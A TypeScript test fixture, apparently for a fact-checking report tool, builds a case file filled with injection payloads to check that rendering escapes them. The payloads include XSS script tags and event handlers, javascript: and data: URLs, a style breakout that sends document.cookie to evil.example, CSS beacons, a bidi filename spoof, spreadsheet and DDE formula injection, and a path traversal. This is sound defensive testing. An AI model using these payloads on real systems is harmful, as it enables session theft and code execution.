/**
 * A case whose every string tries to become active content in a report: script tags, event
 * attributes, javascript:/data: URLs, a closing </style>, CSS expressions and @import, bidi
 * overrides, spreadsheet formulas and a status colour that tries to break out of its style.
 * The text is what an HTML importer would produce from a hostile page (tags arrive as text).
 */
import type { CaseFile } from '../../../src/shared/case'
import { articleOf, claim, p, quote, source, standfirst, statusChange, title } from '../../helpers/builders'
import { checkedInDraft2, secondDraftCase } from './fixture'

export const SCRIPT = '<script>alert("x")</script>'
const IMG = '<img src=x onerror=alert(1)>'
const STYLE_BREAK = '</style><script>document.location="https://evil.example/"+document.cookie</script>'
const CSS =
  'x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css);'
const RTL = 'invoice\u202Egpj.exe was attached'

export function hostileCase(): CaseFile {
  const p1 = `The minister said ${SCRIPT} that 500 jobs were lost ${IMG} in 2023.`
  const p2 = `Budget rose 12% ${STYLE_BREAK} according to officials.`
  const p3 = `“${RTL}, and <a href="javascript:alert(1)">click</a>,” wrote <b onmouseover=alert(1)>Alex</b>.`
  const p4 = `=HYPERLINK("https://evil.example/?leak="&A1,"Click") ${CSS} cost 40 million.`
  const article = articleOf(
    {
      author: '"><svg onload=alert(1)>',
      date: '2024-02-01',
      url: 'javascript:alert(1)',
      'review-url': 'https://evil.example/" onclick="x'
    },
    title(`Hostile ${SCRIPT} headline`),
    standfirst(`<iframe src="https://evil.example/"></iframe> standfirst`),
    ...[p1, p2, p3, p4].map(p)
  )
  const text = article.text
  const sources = [
    source('s1', {
      title: `${IMG} Official statement`,
      url: 'javascript:alert(document.domain)',
      archiveUrl: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      passage: `${SCRIPT} passage`,
      publisher: '<link rel="stylesheet" href="https://evil.example/x.css">'
    }),
    source('s2', {
      kind: 'document',
      title: 'Leaked memo',
      url: 'https://ok.example/path" onmouseover="alert(1)',
      archiveUrl: '//evil.example/protocol-relative',
      filePath: '../../etc/<script>passwd</script>',
      sha256: '"><script>alert(1)</script>',
      snapshot: { path: '<img src=https://evil.example/p.png>', sha256: 'abc', at: 'not a date <b>' }
    }),
    source('s3', {
      kind: 'person',
      title: 'Whistleblower',
      passage: "@SUM(1+1)*cmd|' /C calc'!A0",
      person: {
        name: '<script>x</script>',
        role: 'onerror=alert(1)',
        contact: 'secret@example.org',
        reachedAt: '2024-02-02T10:00:00.000Z',
        channel: '<style>*{display:none}</style>',
        confirmed: '-2+3',
        onRecord: true
      }
    })
  ]
  const statuses = [
    {
      id: 'unchecked',
      label: `Unchecked ${IMG}`,
      color: 'red;background:url(https://evil.example/s.png)',
      description: '',
      resolved: false
    },
    { id: 'verified', label: 'Verified', color: 'expression(alert(1))', description: '', resolved: true },
    { id: 'incorrect', label: '</style>Incorrect', color: '#d93025', description: '', resolved: true }
  ]
  const items = [
    claim(text, p1, {
      id: 'i1',
      ...checkedInDraft2(),
      status: 'verified',
      sourceIds: ['s1', 's3'],
      verdictNote: `${SCRIPT} note`,
      notes: [{ id: 'n1', at: '2024-02-02T09:00:00.000Z', by: '<b>Eve</b>', text: '=1+1' }],
      checklist: { [SCRIPT]: { done: true, detail: IMG } },
      queries: [
        {
          id: 'q1',
          at: '2024-02-02T09:00:00.000Z',
          by: 'Eve',
          text: `${IMG}?`,
          resolvedAt: null,
          resolvedBy: null,
          answer: null
        }
      ],
      history: [statusChange('2024-02-02T09:00:00.000Z', `<img src=x onerror=alert(2)>`, 'unchecked', 'verified', 'd2')]
    }),
    claim(text, p2, {
      id: 'i2" onmouseover="alert(1)',
      ...checkedInDraft2(),
      status: 'incorrect',
      sourceIds: ['s2'],
      correction: { replacement: `Budget rose 10% ${SCRIPT}`, at: '2024-02-02T09:00:00.000Z', by: 'Eve' }
    }),
    quote(text, `${RTL}, and <a href="javascript:alert(1)">click</a>,`, {
      id: 'i3',
      ...checkedInDraft2(),
      score: 0.8, // a quote with a score: whatever a case file holds must render safely
      status: '<script>bad-status</script>',
      speaker: { name: '<b onmouseover=alert(1)>Alex</b>', description: `${SCRIPT}`, anonymous: false }
    }),
    claim(text, p4, {
      id: 'i4',
      ...checkedInDraft2(),
      status: 'unchecked',
      previousText: `-old ${SCRIPT} wording`,
      history: [{ at: '2024-02-02T09:00:00.000Z', by: 'Factdesk', action: 'revised', detail: 'changed', draftId: 'd2' }]
    })
  ]
  const hostile = secondDraftCase(article, `${text}\n\nold`, items, sources, 'case-hostile')
  hostile.statuses = statuses
  hostile.ratingMap = [
    { status: 'verified', ratingValue: 5, alternateName: `True ${SCRIPT}` },
    { status: 'incorrect', ratingValue: 1, alternateName: 'False' }
  ]
  hostile.drafts[1].fileName = `${SCRIPT}.html`
  return hostile
}
